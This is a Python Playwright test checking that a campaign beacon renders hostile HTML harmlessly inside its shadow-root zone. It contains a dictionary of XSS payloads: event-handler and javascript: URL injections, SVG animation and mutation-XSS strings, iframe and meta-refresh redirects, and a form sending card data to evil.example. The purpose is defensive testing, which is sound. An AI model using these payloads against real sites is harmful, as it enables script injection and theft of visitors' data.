"""Hostile campaign HTML in real Chromium: the beacon's own allow-list renders it inert.

The engine refuses these payloads when the config loads and sanitises every rendered field
(tests/unit/test_decisions_templates.py, tests/integration/test_hostile.py). This is the second
line of defence, for content that got past the first (an older engine, a proxy, a bug): the
decide answer the page receives is replaced, in the browser, by one carrying every payload at
once; the beacon (served by the real engine) must render it with no script run, no dialog, no
navigation, and no element outside the zone's box.
"""

from __future__ import annotations

import json
import time

import pytest
from playwright.sync_api import BrowserContext

from tests.conftest import Stack

pytestmark = pytest.mark.e2e

PAYLOADS = {
    "style overlay": '<style>*{position:fixed!important;inset:0!important}</style>'
                     '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>',
    "form action": '<form action="https://evil.example/steal"><input name=card value=4111>'
                   '<button formaction="javascript:window.__pwned=1">Pay</button></form>',
    "link": '<link rel=stylesheet href="data:text/css,body{display:none}">'
            '<link rel=preload as=script href="https://evil.example/x.js">',
    "svg animation": '<svg width=4000 height=4000><a><animate attributeName=href '
                     'values="javascript:window.__pwned=2"/><text y=20>svg</text></a>'
                     '<set attributeName=onload to="window.__pwned=3"/></svg>',
    "javascript urls": '<a id=j href="javascript:window.__pwned=4">j</a>'
                       '<a id=k href="  java&#9;script:window.__pwned=5">k</a>'
                       '<a id=p href="//evil.example/">p</a><img src="javascript:alert(1)">',
    "event handlers": '<img src=x onerror="window.__pwned=6;alert(6)">'
                      '<div id=h onmouseover="window.__pwned=7" onclick="alert(7)">hover</div>'
                      '<details open ontoggle="window.__pwned=8"><summary>s</summary></details>',
    "frames and meta": '<iframe srcdoc="<script>parent.__pwned=9</script>"></iframe>'
                       '<meta http-equiv=refresh content="0;url=https://evil.example/">'
                       '<base href="https://evil.example/">',
    "mutation xss": '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=10">'
                    '</style></mglyph></table></mtext></math>',
}

INSPECT = """() => {
  const host = document.querySelector('#hero');
  const root = host && host.shadowRoot;
  if (!root) return null;
  const box = host.getBoundingClientRect();
  const out = [];
  for (const el of root.querySelectorAll('*')) {
    if (el.localName === 'style' && el === root.firstElementChild) continue; // the beacon's own
    const r = el.getBoundingClientRect();
    const attrs = [...el.attributes].map((a) => a.name + '=' + a.value);
    const outside = r.width > 0 && r.height > 0 &&
      (r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1);
    out.push({tag: el.localName, attrs, outside, position: getComputedStyle(el).position});
  }
  return {elements: out, pwned: window.__pwned || null, html: root.innerHTML,
          bodyShown: getComputedStyle(document.body).display !== 'none'};
}"""


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_hostile_campaign_renders_inert_inside_its_zone(
        shop: Stack, context: BrowserContext, name: str) -> None:
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    requests: list[str] = []
    page.on("request", lambda req: requests.append(req.url))

    # the page's own fetch answers /v1/decide with the hostile decision, in the browser (a route
    # handler in this process could answer after the beacon's 300 ms decide timeout on a busy
    # machine); every other request goes to the engine
    decision = {"zone": "home_hero", "decision_id": "d-hostile", "campaign": "evil", "variant": "a",
                "control": False,
                "content": {"title": "<img src=x onerror=alert(0)>", "html": PAYLOADS[name]}}
    page.add_init_script(f"""(() => {{
      const real = window.fetch.bind(window);
      const decision = {json.dumps(decision)};
      window.fetch = (url, init) => String(url).includes('/v1/decide')
        ? Promise.resolve(new Response(JSON.stringify({{visitor_id: 'v', decisions: [decision]}}),
            {{status: 200, headers: {{'content-type': 'application/json'}}}}))
        : real(url, init);
    }})();""")
    page.goto(f"{shop.base}/demo")
    page.wait_for_function("() => !!(document.querySelector('#hero') || {}).shadowRoot",
                           timeout=45_000)
    for sel in ("#j", "#k", "#p", "#h", "button"):  # what a visitor would click
        loc = page.locator(f"#hero {sel}")
        if loc.count():
            loc.first.click(no_wait_after=True, timeout=2000)
    time.sleep(0.5)  # animations, refreshes, error events: give them a chance to fire
    got = page.evaluate(INSPECT)
    assert got is not None, "the zone was not rendered"
    assert got["pwned"] is None and dialogs == [], (got["pwned"], dialogs, got["html"])
    assert page.url.startswith(f"{shop.base}/demo"), page.url  # no refresh, no navigation
    assert got["bodyShown"]
    assert not any(u.startswith("https://evil.example") for u in requests), requests
    for el in got["elements"]:
        assert el["tag"] not in {"style", "link", "svg", "math", "iframe", "meta", "base", "script",
                                 "animate", "set", "details"}, got["html"]
        assert el["position"] not in ("fixed", "absolute"), el
        assert not el["outside"], (el, got["html"])
        for attr in el["attrs"]:
            key, _, value = attr.partition("=")
            assert not key.startswith("on") and key not in ("style", "action", "formaction"), el
            assert not value.replace(" ", "").lower().startswith(("javascript:", "//")), el
    # the zone's title is text
    assert "<img" in page.evaluate("() => document.querySelector('#hero').shadowRoot.querySelector('h2').textContent")
